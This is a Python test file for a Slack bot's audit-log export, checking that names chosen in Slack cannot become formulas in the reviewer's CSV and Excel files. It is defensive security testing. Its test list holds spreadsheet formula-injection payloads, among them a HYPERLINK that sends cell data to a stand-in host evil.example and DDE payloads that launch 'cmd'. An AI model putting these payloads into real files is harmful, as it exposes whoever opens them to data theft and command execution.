"""Attacks on the audit log's export (the log reviewer's CSV and Excel files): a name
someone outside the forum chose in Slack lands in a file the reviewer opens in a
spreadsheet, so no cell of it may start a formula, whatever whitespace comes first."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.conftest import Bot
from tests.integration.test_disclosure_table import COORD, OTHER_FORUM, build_world, reader_for
from tests.integration.test_refused_access import REFUSED_SV, open_case

# A Slack name is the person's own to choose; spreadsheets skip a leading tab, carriage
# return or newline (and some any whitespace) before reading "=" as a formula.
CRAFTED = [
    '\t=HYPERLINK("https://evil.example/?"&A1,"Öppna")',
    '\r=HYPERLINK("https://evil.example","Öppna")',
    '\n+cmd|" /C calc"!A0',
    ' @SUM(1+1)*cmd|" /C calc"!A0',
    '\uff1dHYPERLINK("https://evil.example")',  # a full-width equals sign
]


def _exports(bot: Bot) -> tuple[bytes, bytes]:
    """The log review's CSV and Excel exports, as the coordinator gets them."""
    before = bot.slack.count("response_url")
    bot.driver.command("logg", user=COORD)
    reply = bot.slack.wait_for("response_url", count=before + 1)[-1].args
    blocks: list[dict[str, Any]] = reply["blocks"]
    buttons = next(b for b in blocks if b.get("block_id") == "privacy_log_export")
    files = []
    for button in buttons["elements"]:
        uploads = set(bot.slack.uploads)
        bot.driver.block_action(
            button["action_id"], user=COORD, value=button["value"], channel="C0001"
        )
        bot.slack.wait_for("files.completeUploadExternal", count=len(uploads) + 1)
        (data,) = [v for k, v in bot.slack.uploads.items() if k not in uploads]
        files.append(data)
    csv_file, xlsx_file = files
    return csv_file, xlsx_file


@pytest.mark.parametrize("name", CRAFTED)
def test_a_crafted_slack_name_is_no_formula_in_the_exported_log(bot: Bot, name: str) -> None:
    """Another forum's admin names themself in Slack as a formula and tries this forum's
    case: the refusal is in this forum's log, and the reviewer's CSV and Excel exports
    show the name as text (a leading apostrophe), never as a formula to run."""
    world = build_world(bot)
    bot.slack.set_user(OTHER_FORUM, real_name=name)
    assert REFUSED_SV in open_case(bot, reader_for(bot, world, OTHER_FORUM), world.case)
    csv_file, xlsx_file = _exports(bot)
    text = csv_file.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    names = [row[1] for row in rows if row[2] == OTHER_FORUM]
    assert names and all(n == "'" + name for n in names), names
    sheet = load_workbook(io.BytesIO(xlsx_file)).active
    assert sheet is not None
    cells = [row[1] for row in sheet.iter_rows(values_only=True) if row[2] == OTHER_FORUM]
    assert cells and all(c == "'" + name for c in cells), cells
